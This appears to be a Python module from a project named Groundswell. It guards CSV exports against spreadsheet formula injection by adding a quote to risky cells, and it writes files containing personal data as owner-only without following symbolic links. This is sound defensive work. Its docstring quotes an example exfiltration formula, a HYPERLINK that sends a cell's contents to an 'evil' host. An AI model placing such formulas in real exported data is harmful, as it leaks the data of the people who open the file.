"""CSV a spreadsheet opens as data, and files only their owner can read.

Every CSV Groundswell writes (exports, reports, dashboards, Pol.is folders)
goes through ``writer``, and every file that may hold personal data through
``private_file``. Pure (no database, no web): engines, actions, the CLI and the
pages all use this one module, so no output can miss the rules.

Formula cells. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
``@``, tab or carriage return as a formula, so a statement or a name such as
``=HYPERLINK("http://evil/?"&A1, "click")`` would run in an organiser's
spreadsheet. Following OWASP's CSV Injection guidance
(https://owasp.org/www-community/attacks/CSV_Injection) such a text cell is
written with a single quote in front, which spreadsheets show as text. Two
exceptions keep data as data: a cell that is a plain number (``-1.5``,
``+44``) is a number, not a formula, and is written as is; numbers given as
numbers are never touched. The prefix is reversible: a text that already
starts with quotes before a formula character gets one more, and ``restore``
takes exactly one off, so whatever Groundswell writes its importers read back
unchanged.
"""

from __future__ import annotations

import csv
import os
import re
import tempfile
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import IO, Any

from groundswell.errors import InvalidInput

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV Injection's list
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet must read it: a formula-like text gets a leading quote.

    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-5 minutes"), neutralise("-1.5")
    ('\\'=HYPERLINK("http://x")', "'-5 minutes", '-1.5')
    """
    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """Undo ``neutralise``: ``restore(neutralise(t)) == t`` for every text ``t``.

    >>> restore("'=1+1"), restore("''=1"), restore("'quoted'")
    ('=1+1', "'=1", "'quoted'")
    """
    return text[1:] if _QUOTED.match(text) else text


class SafeWriter:
    """``csv.writer`` whose text cells are neutralised (module docstring)."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) if isinstance(v, str) else v for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: IO[str], **options: Any) -> SafeWriter:
    """The one CSV writer: ``csv.writer(handle, **options)`` with formula cells neutralised."""
    return SafeWriter(handle, **options)


@contextmanager
def private_file(target: Path, binary: bool = False) -> Iterator[IO[Any]]:
    """Write ``target`` readable by its owner only (0600), never through a symbolic link.

    The data goes to a new temporary file in the same folder (``mkstemp``
    creates it 0600 and never follows a link) and replaces ``target`` only
    once complete, so a planted link is replaced rather than followed, a
    failed write leaves any earlier file whole, and nobody else can read the
    file even for a moment. A ``target`` that is a link is refused outright,
    saying so.
    """
    target = Path(target)
    if target.is_symlink():
        raise InvalidInput(
            f"{target} is a symbolic link; Groundswell does not write through links: "
            "remove it or choose another file or folder"
        )
    fd, temp = tempfile.mkstemp(dir=target.parent, prefix=f".{target.name}.", suffix=".tmp")
    try:
        if binary:
            handle: IO[Any] = os.fdopen(fd, "wb")
        else:
            handle = os.fdopen(fd, "w", encoding="utf-8", newline="")
        with handle:
            yield handle
        os.replace(temp, target)
    except BaseException:
        Path(temp).unlink(missing_ok=True)
        raise


def write_private(target: Path, data: str | bytes) -> None:
    """``data`` into ``target`` as ``private_file`` writes it; InvalidInput if it cannot."""
    try:
        if isinstance(data, bytes):
            with private_file(target, binary=True) as handle:
                handle.write(data)
        else:
            with private_file(target) as handle:
                handle.write(data)
    except OSError as exc:
        raise InvalidInput(
            f"cannot write {target} ({exc.strerror}); choose another file or folder"
        ) from None
